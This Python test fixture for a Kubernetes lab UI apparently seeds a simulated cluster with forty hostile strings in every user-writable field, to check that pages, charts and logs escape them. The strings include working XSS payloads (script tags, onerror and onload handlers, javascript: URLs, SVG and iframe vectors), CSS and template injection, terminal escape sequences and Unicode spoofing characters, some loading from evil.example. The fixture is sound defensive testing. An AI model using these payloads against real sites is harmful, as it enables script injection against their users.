"""Forty texts that would like to be more than text, and a cluster that has them wherever a user may write.

The first letters of each tell which it is: `h00` to `h39`. What runs as a script sets `window.hacked` or
opens a dialog; what loads anything asks evil.example for it.
"""

from __future__ import annotations

import itertools
from typing import Any

from k8slab.errors import LabError
from k8slab.graph.chart import Chart
from k8slab.graph.chart_lives import lives_chart
from k8slab.graph.chart_memory import MemorySample, memory_chart
from k8slab.graph.chart_owners import owners_of
from k8slab.graph.chart_recoveries import recoveries_chart
from k8slab.graph.chart_requests import requests_chart
from k8slab.graph.resources import LAYER_KINDS, LAYERS
from k8slab.graph.scene import SceneBuilder
from k8slab.mirror.recording import About, Recording
from k8slab.mirror.timeline import Timeline
from k8slab.session.pods import PodList, row_of
from k8slab.traffic import Tally
from tests.browser.recorded import RecordedSource
from tests.browser.scripted import NotingActions, ScriptedSource
from tests.unit import recorded_objects
from tests.unit.recorded_objects import owned_by

RUN = "window.hacked=1"
EVIL = "http://evil.example/x"

_TEXTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={EVIL}></sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f'" onfocus="{RUN}" autofocus tabindex="0" x="',
    f"<svg onload={RUN}>",
    f"<svg><script href={EVIL} /></svg>",
    f"</text></svg><script>{RUN}</script>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>#x'/>",
    f"<foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject>",
    f"<iframe src={EVIL}></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<a href="javascript:{RUN}" style="position:fixed;inset:0">click</a>',
    f"javascript:{RUN}",
    f"<details open ontoggle={RUN}><summary>x",
    f"<body onload={RUN}><form action={EVIL}><button autofocus onfocus={RUN}>",
    f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}"><style>*{{background:url({EVIL})}}</style>',
    f"</style><style>@import '{EVIL}';</style>",
    f"red;background:url({EVIL});width:9999px;position:fixed",
    f"expression({RUN}) url('{EVIL}') }} * {{ display:none }}",
    "${" + RUN + "}#{" + RUN + "}{{constructor.constructor('" + RUN + "')()}}",
    "%{customdata}<extra>%{meta.hacked}</extra> %{x|%{y}}",
    f"`+({RUN})+`\\',{RUN}//",
    f'"}}]);{RUN};//',
    f"]]><script>{RUN}</script><![CDATA[",
    f"--><script>{RUN}</script><!--",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;",
    f"![x]({EVIL}) [click](javascript:{RUN}) <{EVIL}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\require{{html}}\\class{{x}}{{y}}$$",
    "\x1b[31mred\x1b[0m \x1b]8;;" + EVIL + "\x07link\x1b]8;;\x07 \x9b2J",
    "\x00\x01\x08\x0b\x7f\r\nSecond-line\ttab\u2028third\u2029fourth",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200e\u200f\u061c",
    "zero\u200b\u200c\u200d\ufeff\u2060width \ufffe\uffff \U000e0041 Z" + "\u0300" * 60,
    f"<img src=x onerror={RUN}>" * 2000,
)
PAYLOADS = tuple(f"h{number:02d}{text}" for number, text in enumerate(_TEXTS))


def hostile_lesson() -> tuple[recorded_objects.Recording, Timeline, float]:
    """A namespace in which every text that a user may choose is hostile, with one Pod killed and replaced."""
    timeline = Timeline()
    cluster = recorded_objects.Recording(timeline.record)
    texts = itertools.cycle(PAYLOADS)
    nodes = [cluster.node(next(texts), listed=True, uid=f"node-{number}") for number in range(3)]
    for node in nodes:
        cluster.change(
            node["metadata"]["uid"], metadata={"annotations": {"k8slab.dev/played-by": next(texts)}}
        )
    for kind, parts in _others(texts):
        _put(cluster, kind, next(texts), **parts)
    owner = cluster.objects["ReplicaSet-0"]
    for number, text in enumerate(PAYLOADS):
        _pod(cluster, number, text, owner, nodes[number % 3]["metadata"]["name"], texts)
    uids = [f"pod-{number}" for number in range(len(PAYLOADS))]
    _slice(cluster, dict.fromkeys(uids, "ready"))
    since = cluster.now
    cluster.wait(2)
    cluster.delete("pod-0")
    timeline.announce("delete", "pod-0", cluster.now)
    cluster.wait(0.1)
    _pod(cluster, 40, PAYLOADS[3], owner, nodes[0]["metadata"]["name"], texts)
    _slice(cluster, {"pod-0": "terminating", "pod-40": "ready"})
    cluster.change("pod-1", metadata={"labels": {next(texts): next(texts)}, "ownerReferences": []})
    cluster.wait(3)
    cluster.drop("pod-0")
    cluster.wait(1)
    return cluster, timeline, since


def _others(texts: itertools.cycle[str]) -> list[tuple[str, dict[str, Any]]]:
    """What there is besides Nodes and Pods, in the order in which it is made."""
    claim = {"accessModes": [next(texts)], "storageClassName": next(texts)}
    target = {"kind": "Deployment", "name": next(texts)}
    path = {"path": next(texts), "backend": {"service": {"name": next(texts), "port": {"number": 80}}}}
    hpa = {"scaleTargetRef": target, "minReplicas": 1, "maxReplicas": 5}
    component = {"labels": {"component": next(texts)}, "annotations": {"kubernetes.io/config.mirror": "1"}}
    return [
        ("ReplicaSet", {"metadata": {"annotations": {"deployment.kubernetes.io/revision": next(texts)}},
                        "spec": {"replicas": 40}}),
        ("CronJob", {"spec": {"schedule": next(texts)}}),
        ("Service", {"spec": {"clusterIP": next(texts), "ports": [{"port": 80, "name": next(texts)}],
                              "selector": {"app": "web", next(texts): next(texts)}}}),
        ("Service", {"spec": {"type": "ExternalName", "externalName": next(texts)}}),
        ("Ingress", {"spec": {"rules": [{"host": next(texts), "http": {"paths": [path]}}]}}),
        ("ConfigMap", {"data": {next(texts): next(texts)}}),
        ("Secret", {"type": next(texts)}),
        ("PersistentVolumeClaim", {"spec": claim, "status": {"phase": next(texts)}}),
        ("HorizontalPodAutoscaler", {"spec": hpa, "status": {"conditions": [
            {"type": "ScalingActive", "status": "False", "message": next(texts)}]}}),
        ("ResourceQuota", {"status": {"hard": {next(texts): next(texts)},
                                      "used": {next(texts): next(texts)}}}),
        ("Pod", {"metadata": {"namespace": "kube-system", **component}, "spec": {}, "status": {}}),
    ]  # fmt: skip


def _put(cluster: recorded_objects.Recording, kind: str, name: str, **parts: Any) -> None:
    number = sum(obj["kind"] == kind for obj in cluster.objects.values())
    metadata = {"name": name, "namespace": "lesson", "uid": f"{kind}-{number}", **parts.pop("metadata", {})}
    cluster.put({"kind": kind, "metadata": metadata, **parts}, listed=True)


def _pod(
    cluster: recorded_objects.Recording,
    number: int,
    name: str,
    owner: dict[str, Any],
    node: str,
    texts: itertools.cycle[str],
) -> None:
    """A Pod that is not well: why not, and all it has, is said in hostile texts."""
    uid, container = f"pod-{number}", next(texts)
    metadata = {
        "name": name, "namespace": "lesson", "uid": uid, "labels": {"app": "web", "b": next(texts)},
        "annotations": {next(texts): next(texts)}, "ownerReferences": owned_by(owner),
        "creationTimestamp": recorded_objects.stamp(cluster.now),
    }  # fmt: skip
    volumes = [
        {"name": next(texts), "configMap": {"name": next(texts)}},
        {"name": next(texts), "persistentVolumeClaim": {"claimName": next(texts)}},
    ]
    reads = [{"name": next(texts), "valueFrom": {"secretKeyRef": {"name": next(texts), "key": next(texts)}}}]
    spec = {"containers": [{"name": container, "image": next(texts), "env": reads}], "volumes": volumes}
    state = {"waiting": {"reason": next(texts), "message": next(texts)}} if number % 2 else {"running": {}}
    cluster.put({"kind": "Pod", "metadata": metadata, "spec": spec, "status": {"phase": "Pending"}})
    cluster.wait(0.01)
    cluster.change(uid, spec={"nodeName": node})
    statuses = [{"name": container, "ready": not number % 2, "restartCount": number % 3, "state": state}]
    ready = {"type": "Ready", "status": str(not number % 2), "message": next(texts), "reason": next(texts)}
    status = {"phase": "Running", "podIP": next(texts), "conditions": [ready], "containerStatuses": statuses}
    cluster.change(uid, status=status)


def _slice(cluster: recorded_objects.Recording, states: dict[str, str]) -> None:
    made = cluster.endpoints("web", states)
    name = cluster.objects["Service-0"]["metadata"]["name"]
    cluster.change(made["metadata"]["uid"], metadata={"labels": {"kubernetes.io/service-name": name}})


class HostileSource(RecordedSource):
    """A map's source of hostile texts, with every layer on."""

    def __init__(self) -> None:
        self.cluster, self.timeline, self._since = hostile_lesson()
        self._builder = SceneBuilder("lesson", PAYLOADS[0], PAYLOADS[3], layers=tuple(LAYERS))
        self._builder.know(LAYER_KINDS)
        self._builder.set_badge("live", self._since, PAYLOADS[5])
        for change in self.timeline.changes():
            self._builder.apply(change)
        ScriptedSource.__init__(self, self._builder.scene(self.cluster.now))

    def recording(self) -> Recording:
        about = About(PAYLOADS[2], "lesson", PAYLOADS[4], {}, self._since, self.cluster.now)
        return self.timeline.recording(about)


class HostileActions(NotingActions):
    """Actions that answer with all forty texts, one a line."""

    def logs(self, uid: str, container: str = "") -> str:
        return "\n".join(PAYLOADS)

    def events(self, uid: str) -> str:
        return "\n".join(PAYLOADS)

    def yaml(self, uid: str) -> str:
        return "\n".join(PAYLOADS)

    def command(self, uid: str, verb: str, container: str = "", value: str = "") -> str:
        return " ".join(PAYLOADS)[:2000]

    def force_kill(self, uid: str) -> str:
        raise LabError(PAYLOADS[3], PAYLOADS[8])


def pod_table(source: HostileSource) -> PodList:
    """What `lab.pods()` shows."""
    pods = [obj for uid, obj in source.cluster.objects.items() if uid.startswith("pod-")]
    return PodList(tuple(row_of(pod) for pod in pods), PAYLOADS[0])


def tally() -> Tally:
    """What traffic shows."""
    pods = dict.fromkeys(PAYLOADS, 1)
    return Tally(PAYLOADS[3], True, 40, 40, 0, pods, {PAYLOADS[8]: 1}, (), 0.01)


def hostile_charts(source: HostileSource) -> list[Chart]:
    """Charts whose names and sentences are hostile."""
    changes, end = source.timeline.changes(), source.cluster.now
    start = recorded_objects.START
    recoveries = source.timeline.recoveries("lesson")
    each = dict.fromkeys(PAYLOADS, 1)
    answers = [(int(start), each)]
    return [
        lives_chart(source.timeline.lives("lesson"), end, PAYLOADS[3], owners_of(changes), recoveries, start),
        recoveries_chart(recoveries, PAYLOADS[8], start),
        requests_chart(
            PAYLOADS[0], PAYLOADS[5], [(int(start), 40, 1)], each, {PAYLOADS[8]: 1}, answers, start
        ),
        memory_chart([MemorySample(start, dict.fromkeys(PAYLOADS, 9.0), {PAYLOADS[3]: 30.0})], PAYLOADS[32]),
    ]
